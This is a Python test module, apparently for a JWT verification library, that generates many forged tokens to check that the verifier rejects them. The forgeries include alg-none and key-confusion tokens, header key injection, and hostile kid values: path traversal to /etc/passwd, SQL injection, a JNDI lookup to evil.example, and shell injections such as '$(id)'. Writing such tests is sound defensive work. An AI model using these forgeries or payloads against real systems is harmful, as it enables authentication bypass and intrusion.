"""Every way to forge a token that we know of, by kind: each yields a name and the token."""

import base64
import hmac
import json
from collections.abc import Callable, Iterator
from typing import Any, TypeAlias

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from ostiary.crypto import base64url
from tests.mint import AUDIENCE, LIFE, Mint, header, private, published, segment, signed

Forgery: TypeAlias = tuple[str, str]
Kind: TypeAlias = Callable[[Mint], Iterator[Forgery]]
KEYS = ("EdDSA", "ES256", "RS256", "PS256")
LEEWAY = 30
SKEW = 60
LONGEST_LIFE = 24 * 3600
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def kinds() -> dict[str, Kind]:
    """Return every kind by name."""
    return {name: it for name, it in globals().items() if getattr(it, "is_kind", False)}


def kind(function: Kind) -> Kind:
    vars(function)["is_kind"] = True
    return function


def by_secret(head: Any, claims: Any, secret: bytes, digest: str = "sha256") -> str:
    message = f"{segment(head)}.{segment(claims)}"
    return f"{message}.{segment(hmac.digest(secret, message.encode(), digest))}"


@kind
def no_algorithm(mint: Mint) -> Iterator[Forgery]:
    """S1"""
    names = {"".join(c.upper() if bits >> i & 1 else c for i, c in enumerate("none")) for bits in range(16)}
    genuine = mint.token().rpartition(".")[2]
    for alg in sorted(names | {"", " none", "none ", "none\0", "NONE\n"}):
        unsigned = f"{segment(header(alg=alg))}.{segment(mint.claims())}"
        for how, end in {"empty": ".", "missing": "", "genuine": f".{genuine}", "null": ".bnVsbA"}.items():
            yield f"{alg!r}, signature {how}", f"{unsigned}{end}"
    for alg in (None, 0, True, [], ["EdDSA"], {"alg": "EdDSA"}, ...):
        yield f"alg is {alg!r}", signed(header(alg=alg), mint.claims(), private("EdDSA"))


def encodings(algorithm: str) -> Iterator[tuple[str, bytes]]:
    """Return the published key in every form that somebody may have taken for a secret."""
    jwk = published(algorithm)
    numbers = private(algorithm)._key.as_dict(private=False)
    yield "JWK", json.dumps(jwk).encode()
    yield "compact JWK", json.dumps(jwk, separators=(",", ":")).encode()
    yield "JWK without kid", json.dumps(numbers).encode()
    yield "key set", json.dumps({"keys": [jwk]}).encode()
    for member in ("x", "y", "n", "e"):
        if member in jwk:
            yield f"{member} as text", jwk[member].encode()
            yield f"{member} as bytes", base64url.decode(jwk[member])
    key = private(algorithm)._key.raw_value.public_key()
    info, encoding = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.Encoding
    pem, der = key.public_bytes(encoding.PEM, info), key.public_bytes(encoding.DER, info)
    yield "PEM", pem
    yield "PEM without its last line break", pem.rstrip()
    yield "PEM with CRLF", pem.replace(b"\n", b"\r\n")
    yield "DER", der
    yield "DER in base64", base64.b64encode(der)
    yield "DER in base64url", base64url.encode(der)
    yield "DER in hexadecimal digits", der.hex().encode()
    if algorithm == "EdDSA":
        raw = key.public_bytes(encoding.Raw, serialization.PublicFormat.Raw)
        yield "raw", raw
        yield "raw in hexadecimal digits", raw.hex().encode()
        yield "SSH", key.public_bytes(encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    else:
        older = serialization.PublicFormat.PKCS1 if "S256" in algorithm and algorithm[0] in "RP" else info
        yield "older PEM", key.public_bytes(encoding.PEM, older)


@kind
def public_key_as_secret(mint: Mint) -> Iterator[Forgery]:
    """S2"""
    for algorithm in KEYS:
        for form, secret in encodings(algorithm):
            for kid in (algorithm, ...):
                head = header("HS256", kid=kid)
                yield f"{algorithm} {form}, kid {kid}", by_secret(head, mint.claims(), secret)
            yield f"{algorithm} {form}, HS512", by_secret(header("HS512"), mint.claims(), secret, "sha512")


@kind
def swapped_algorithm(mint: Mint) -> Iterator[Forgery]:
    """S3"""
    claimed = (
        *KEYS,
        "HS256",
        "ES384",
        "ES512",
        "PS512",
        "RS512",
        "ES256K",
        "Ed25519",
        "eddsa",
        "EDDSA",
        "dir",
    )
    for signer in KEYS:
        for alg in claimed:
            for kid in KEYS:
                if (signer, alg) == (alg, kid):
                    continue
                yield (
                    f"{signer} says {alg}, {kid}",
                    signed(header(alg, kid=kid), mint.claims(), private(signer)),
                )


HOSTILE_KIDS: tuple[Any, ...] = (
    "../../etc/passwd", "/dev/null", "file:///etc/passwd", "' or 1=1--", '" OR ""="', "EdDSA' --",
    "%2e%2e/key",
    "https://evil.example/jwks", "http://169.254.169.254/", "//evil.example", "EdDSA\0", "\0", "EdDSA ",
    " EdDSA",
    "eddsa", "EDDSA", "", "EdDSA\n", "x" * 300, "x" * 10_000, ["EdDSA"], {"kid": "EdDSA"}, 0, 1, 1.5,
    True, False,
    [], {}, "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(id)", "`id`", "; ls", "\ud800", "EdDSA\u202e",
)  # fmt: skip


@kind
def hostile_kid(mint: Mint) -> Iterator[Forgery]:
    """S4"""
    own = private("EdDSA", number=7)
    for kid in HOSTILE_KIDS:
        yield f"{str(kid)[:40]!r} of {type(kid).__name__}", signed(header(kid=kid), mint.claims(), own)
    for kid in (0, ["EdDSA"], {"kid": "EdDSA"}, True):
        yield f"genuine key, {kid!r}", signed(header(kid=kid), mint.claims(), private("EdDSA"))


@kind
def key_in_the_header(mint: Mint) -> Iterator[Forgery]:
    """S5"""
    own = private("EdDSA", number=7)
    jwk = published("EdDSA", number=7)
    for kid in ("EdDSA", "attacker", ...):
        for name, value in {
            "jku": "http://127.0.0.1:9/jwks",
            "x5u": "http://127.0.0.1:9/certificate",
            "jwk": {name: jwk[name] for name in ("kty", "crv", "x")},
            "x5c": [base64.b64encode(b"certificate").decode()],
            "x5t": "AAAA",
            "iss": "http://127.0.0.1:9",
        }.items():
            yield f"{name}, kid {kid}", signed(header(kid=kid, **{name: value}), mint.claims(), own)


@kind
def critical_extensions(mint: Mint) -> Iterator[Forgery]:
    """S6"""
    for crit in (["x"], [], "x", "", None, ["b64"], ["exp"], ["alg"], {}, 0, True, [1], [None], ["x", "x"]):
        token = signed(header(crit=crit, x=1), mint.claims(), private("EdDSA"))
        yield f"crit {crit!r}", token
    for more in ({"b64": False}, {"b64": True}, {"zip": "DEF"}, {"crit": ["b64"], "b64": False}):
        yield f"{more}", signed(header(**more), mint.claims(), private("EdDSA"))
    message = f"{segment(header(crit=['b64'], b64=False))}.{json.dumps(mint.claims())}"
    yield "unencoded content", f"{message}.{segment(private('EdDSA').sign(message.encode()))}"


def changed(mint: Mint, name: str, *values: Any) -> Iterator[Forgery]:
    for value in values:
        token = signed(header(), mint.claims(**{name: value}), private("EdDSA"))
        yield f"{name} {str(value)[:60]!r} of {type(value).__name__}", token


@kind
def other_issuer(mint: Mint) -> Iterator[Forgery]:
    """S7"""
    good = mint.issuer
    yield from changed(
        mint, "iss", ..., None, "", 0, [good], {"iss": good}, f"{good}/", good.upper(), f"{good} ",
        f" {good}",
        good.replace("http", "https"), good[:-1], f"{good}0", f"{good}.evil.example",
        f"{good}@evil.example",
        f"{good}/api/auth", f"{good}?", f"{good}#", f"{good}\0", "https://evil.example", "*", True,
    )  # fmt: skip


@kind
def other_audience(mint: Mint) -> Iterator[Forgery]:
    """S7"""
    good = AUDIENCE
    yield from changed(
        mint, "aud", ..., None, "", 0, [], {}, [[good]], [good, "https://evil.example"],
        ["https://evil.example"],
        [good, good], [good, ""], [good, None], {"aud": good}, f"{good}/", good.upper(), good[:-1],
        f"{good}x",
        f"{good} ", f" {good}", f"{good},https://evil.example", f"{good}.evil.example", "https://", "*",
        mint.issuer,
        good.replace("https", "http"), f"{good}/v1", f"{good}\0", True,
    )  # fmt: skip


@kind
def other_times(mint: Mint) -> Iterator[Forgery]:
    """S8"""
    now = mint.seconds
    strange = (
        "", "x", str(now + LIFE), float(now + LIFE), now + LIFE + 0.5, 1e308, -1, -(10**20), 10**20,
        1 << 53, 1 << 64,
        True, False, [now + LIFE], {}, {"exp": now}, "2030-01-01T00:00:00Z",
    )  # fmt: skip
    yield from changed(mint, "exp", ..., None, 0, now - 3600, now - LEEWAY - 1, now - LEEWAY, *strange)
    yield from changed(mint, "exp", now + LONGEST_LIFE + 1, now + 10 * LONGEST_LIFE, (1 << 53) - 1)
    yield from changed(mint, "nbf", now + LEEWAY + 1, now + 3600, None, *strange)
    yield from changed(mint, "iat", now + SKEW + 1, now + 3600, None, now - LONGEST_LIFE, *strange)
    yield "no iat and too long", mint.token(iat=..., exp=now + LONGEST_LIFE + 1)
    yield "over before it began", mint.token(iat=now - 7200, exp=now - 3600, nbf=now - 7200)
    endless = b'{"exp":1' + b"0" * 5000 + b"}"
    yield "endless numbers", f"{segment(header())}.{segment(endless)}.AAAA"
    for number in (b"1e999", b"-0", b"Infinity", b"NaN", b"01", b"0x7fffffff", b"1_000", b"9" * 400):
        content = json.dumps(mint.claims(exp=0)).encode().replace(b'"exp": 0', b'"exp": ' + number)
        yield f"exp {number[:20]!r}", signed(header(), content, private("EdDSA"))


@kind
def other_type(mint: Mint) -> Iterator[Forgery]:
    """S9"""
    for typ in (
        "better-auth.session-cache+jwt", "rt+jwt", "refresh+jwt", "id_token", "it+jwt", "logout+jwt",
        "secevent+jwt",
        "dpop+jwt", "JOSE", "JWE", "oauth-authz-req+jwt", "email-verification", "token-introspection+jwt",
        "", "jwt ",
        "at+jwt\0", "text/plain", "kb+jwt", "vc+sd-jwt", "client-authentication+jwt",
    ):  # fmt: skip
        yield f"{typ!r}", mint.token(typ=typ)
    for odd in (0, ["JWT"], {}, True):
        yield f"typ {odd!r}", signed(header(typ=odd), mint.claims(), private("EdDSA"))


@kind
def odd_people(mint: Mint) -> Iterator[Forgery]:
    """Tokens whose subject is nobody, or of the wrong kind."""
    yield from changed(mint, "sub", ..., None, "", 0, 1, True, ["ada"], {"id": "ada"})
    yield from changed(mint, "sid", 0, [], {}, True)
    yield from changed(mint, "scope", 0, ["admin"], {}, True)
    yield from changed(mint, "role", 0, ["admin"], {"admin": True}, True)
    yield from changed(mint, "email", 0, [], {})
    yield from changed(mint, "name", 0, [], {})
    yield from changed(mint, "banned", "no", 0, [])
    yield from changed(mint, "banExpires", 0, "never", [])


@kind
def too_much(mint: Mint) -> Iterator[Forgery]:
    """S10"""
    yield "a large claim", mint.token(name="x" * 10_000)
    yield "a large header", signed(header(x="x" * 600), mint.claims(), private("EdDSA"))
    yield "a large signature", mint.token() + "A" * 8192
    yield "dots", "." * 10_000
    yield "a million characters", "A" * 1_000_000
    yield "fifty million characters", "A" * 50_000_000
    yield "fifty million characters of header", f"{'A' * 50_000_000}.{mint.token().partition('.')[2]}"
    yield "fifty million characters of signature", f"{mint.token()}{'A' * 50_000_000}"


@kind
def hostile_json(mint: Mint) -> Iterator[Forgery]:
    """S11"""
    good, key = json.dumps(mint.claims()), private("EdDSA")
    contents = {
        "sub twice": good[:-1] + ',"sub":"root"}',
        "iss twice": '{"iss":"https://evil.example",' + good[1:],
        "exp twice": good[:-1] + ',"exp":99999999999}',
        "an escaped name twice": good[:-1] + ',"s\\u0075b":"root"}',
        "a list": f"[{good}]",
        "text": json.dumps(good),
        "null": "null",
        "a number": "1",
        "nothing": "",
        "blank": " ",
        "two documents": good + good,
        "a document and more": good + "x",
        "a comment": good[:-1] + "/**/}",
        "a trailing comma": good[:-1] + ",}",
        "single quotes": good.replace('"', "'"),
        "NaN": good[:-1] + ',"x":NaN}',
        "NUL": good + "\0",
        "brackets": "[" * 3000,
        "nested deeply": good[:-1] + ',"x":' + "[" * 2500 + "]" * 2500 + "}",
        "a byte order mark": "\ufeff" + good,
    }
    for name, content in contents.items():
        yield name, signed(header(), content.encode(), key)
        yield f"header: {name}", signed(content.replace("sub", "alg").encode()[:370], mint.claims(), key)
    for name, data in {
        "not UTF-8": good.encode().replace(b"Ada", b"\xff\xfe"),
        "UTF-16": good.encode("utf-16"),
        "overlong": good.encode().replace(b"Ada", b"\xc0\xae"),
        "surrogates": good.encode().replace(b"Ada", b"\xed\xa0\x80"),
    }.items():
        yield name, signed(header(), data, key)
    yield "header not UTF-8", signed(b'{"alg":"EdDSA","kid":"EdDSA","x":"\xff"}', mint.claims(), key)
    yield "header with alg twice", signed(b'{"alg":"none","alg":"EdDSA","kid":"EdDSA"}', mint.claims(), key)
    yield "header with kid twice", signed(b'{"alg":"EdDSA","kid":"x","kid":"EdDSA"}', mint.claims(), key)
    yield "a hundred thousand brackets", f"{segment(header())}.{'W1tb' * 33_334}.AAAA"


@kind
def other_text(mint: Mint) -> Iterator[Forgery]:
    """The same token, written in another way: one token has one form."""
    good = mint.token()
    head, body, proof = good.split(".")
    for number, (name, part) in enumerate({"header": head, "claims": body, "signature": proof}.items()):
        parts = [head, body, proof]
        last = ALPHABET.index(part[-1])
        variants = {
            "padded": part + "=", "padded twice": part + "==", "with a blank": f"{part[:3]} {part[3:]}",

            "with a line break": f"{part[:5]}\n{part[5:]}", "with a tab": f"{part[:5]}\t{part[5:]}",
            "empty": "",
            "cut off": part[:-1], "longer": f"{part}A", "with plus": f"+{part[1:]}",
            "with slash": f"{part[:-1]}/",
            "with NUL": f"{part}\0", "percent-encoded": f"%{ord(part[0]):02X}{part[1:]}",
            "not ASCII": f"{part}é",
            "full width": chr(ord(part[0]) + 0xFEE0) + part[1:], "quoted": f'"{part}"',
            "with a comma": f"{part},",
        }  # fmt: skip
        if len(part) % 4:
            variants["spare bits"] = part[:-1] + ALPHABET[last ^ 1]
        for how, text in variants.items():
            parts[number] = text
            yield f"{name} {how}", ".".join(parts)
    yield "an extra dot", f"{good}."
    yield "a dot before", f".{good}"
    yield "two dots between", good.replace(".", "..", 1)
    yield "four parts", f"{good}.{proof}"
    yield "five parts, as a JWE has", f"{head}.{body}.{proof}.{proof}.{proof}"
    yield "an empty JWE", "...."
    yield "three empty parts", ".."
    yield "twice", f"{good} {good}"
    yield "as JSON", json.dumps({"protected": head, "payload": body, "signature": proof})
    yield "signature of another token", f"{head}.{body}.{mint.token(sub='eve').split('.')[2]}"
    yield "claims of another token", f"{head}.{mint.token(sub='eve').split('.')[1]}.{proof}"
    yield "header of another token", f"{mint.token('ES256').split('.')[0]}.{body}.{proof}"
    yield "reversed", good[::-1]


@kind
def strangers_signature(mint: Mint) -> Iterator[Forgery]:
    """Well made, by a key that nobody published under this name."""
    for algorithm in KEYS:
        for kid in (algorithm, "stranger", None):
            yield f"{algorithm}, kid {kid}", mint.token(algorithm, kid=kid, number=7)
    small = Ed25519PrivateKey.from_private_bytes(bytes(32)).sign(b"")
    message = f"{segment(header())}.{segment(mint.claims())}"
    for name, proof in {
        "zeros": bytes(64), "ones": b"\xff" * 64, "of nothing": small,
        "the neutral element": b"\1" + bytes(63),
        "no bytes": b"", "63 bytes": bytes(63), "65 bytes": bytes(65),
        "ASN.1": b"\x30\x06\x02\x01\x01\x02\x01\x01",
    }.items():  # fmt: skip
        yield f"EdDSA {name}", f"{message}.{segment(proof)}"
    elliptic = f"{segment(header('ES256'))}.{segment(mint.claims())}"
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    for name, (r, s) in {
        "zero": (0, 0),
        "one": (1, 1),
        "order": (order, order),
        "large": (2**256 - 1, 1),
    }.items():
        yield f"ES256 {name}", f"{elliptic}.{segment(r.to_bytes(32) + s.to_bytes(32))}"


@kind
def flipped_bits(mint: Mint) -> Iterator[Forgery]:
    """Every bit of every algorithm's signature, RSA's every thirteenth."""
    for algorithm in KEYS:
        message, _, text = mint.token(algorithm).rpartition(".")
        proof = base64url.decode(text)
        for bit in range(0, len(proof) * 8, 1 if len(proof) < 100 else 13):
            flipped = bytearray(proof)
            flipped[bit // 8] ^= 1 << bit % 8
            yield f"{algorithm} bit {bit}", f"{message}.{segment(bytes(flipped))}"


@kind
def unusual_authorizations(mint: Mint) -> Iterator[Forgery]:
    """What is no JWT, and no session token either."""
    for text in (
        "x", "null", "undefined", "true", "{}", "a.b", "a.b.c", "eyJ", "..", "a..b", "\x7f", "é", "a" * 32,
        f"{'a' * 32}.{'A' * 43}=", f"{'a' * 32}.é", f"{'a' * 32}.{'é' * 44}", f"é.{'A' * 43}=",
        f".{'A' * 43}=",
        f"{'a' * 32}.{'A' * 43}%3D", "%", "a.%zz", "a.%00", "' or 1=1--", "a" * 8192, "a" * 8193,
        mint.issuer,
    ):  # fmt: skip
        yield f"{text[:40]!r} of {len(text)}", text
